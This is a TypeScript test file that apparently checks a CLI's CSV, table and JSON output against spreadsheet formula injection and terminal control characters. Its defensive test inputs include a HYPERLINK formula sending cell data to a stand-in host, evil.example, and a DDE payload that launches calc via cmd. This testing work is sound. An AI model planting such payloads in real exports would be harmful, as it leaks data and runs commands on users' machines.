/** The shared output formats against hostile text: formula cells, escape sequences, raw controls. */
import { describe, expect, it } from 'vitest';
import { neutraliseFormula, renderTable, toCsv, toJsonText } from '../../src/cli/format.js';
import { escapeControlChars, printableValue, textFault } from '../../src/text.js';

interface Row {
  readonly name: string | null;
  readonly score: number | string | null;
}
const COLS = [
  { header: 'name', value: (r: Row) => r.name },
  { header: 'score', value: (r: Row) => r.score, align: 'right' as const },
];

/** Parse our CSV back (RFC 4180: quoted fields, doubled quotes, CRLF rows). */
function cells(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const text = csv.replace(/^\uFEFF/, '');
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

describe('CSV: text that a spreadsheet would run is neutralised, numbers stay numbers', () => {
  const FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm")',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '  =1+1',
    '\n=1+1',
    '＝1+1', // full-width equals
    '＠SUM(A1)',
  ];

  it.each(FORMULAS)('%j starts with a quote, inside a quoted cell', (text) => {
    const csv = toCsv([{ name: text, score: 1 }], COLS);
    const [, row] = cells(csv);
    expect(row![0]).toBe(`'${text}`);
    expect(csv).toContain(`"'`);
  });

  it('leaves plain names, numbers and number-like text alone; null stays an empty cell', () => {
    const rows: Row[] = [
      { name: 'Sở Y tế - tỉnh Điện Biên', score: 7.1 },
      { name: 'UBND xã A-Mường', score: '-0.35' },
      { name: 'O\'Brien, "x"', score: -2 },
      { name: null, score: null },
    ];
    expect(cells(toCsv(rows, COLS, { bom: true }))).toEqual([
      ['name', 'score'],
      ['Sở Y tế - tỉnh Điện Biên', '7.1'],
      ['UBND xã A-Mường', '-0.35'],
      ['O\'Brien, "x"', '-2'],
      ['', ''],
    ]);
    expect(neutraliseFormula(-1.5)).toBe('-1.5');
    expect(neutraliseFormula('-1.50')).toBe('-1.50');
    expect(neutraliseFormula('-1e5')).toBe("'-1e5");
  });
});

describe('tables and JSON on a terminal: control characters are shown, never obeyed', () => {
  const HOSTILE = [
    '\u001b[2J\u001b[HSở Y tế',
    'a\u0000b',
    'x\u009b31m',
    'abc\u202edef',
    'line\nbreak',
    'back\bspace',
    'bell\u0007',
    '\ud800lone',
  ];

  it.each(HOSTILE)('%j is escaped in a table cell and the columns stay aligned', (text) => {
    const out = renderTable([{ name: text, score: 1 }], COLS);
    expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    expect(out).toContain(escapeControlChars(text));
    const lines = out.trimEnd().split('\n');
    expect(lines).toHaveLength(3);
  });

  it('JSON output escapes C1 controls and bidi marks too, and still parses to the same value', () => {
    const value = { name: 'a\u009b\u202eb\u0000', n: 1 };
    const text = toJsonText(value);
    expect(text).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202e](?<!\n)/u);
    expect(JSON.parse(text)).toEqual(value);
  });

  it('names the fault of a text and prints a value safely, cut to length', () => {
    expect(textFault('Sở Y tế')).toBeNull();
    expect(textFault('a\u0000')).toContain('U+0000');
    expect(textFault('\udc00')).toContain('lone surrogate');
    expect(printableValue('x'.repeat(200), 20)).toHaveLength(20);
    expect(printableValue('\u001b')).toBe('"\\x1b"');
  });
});
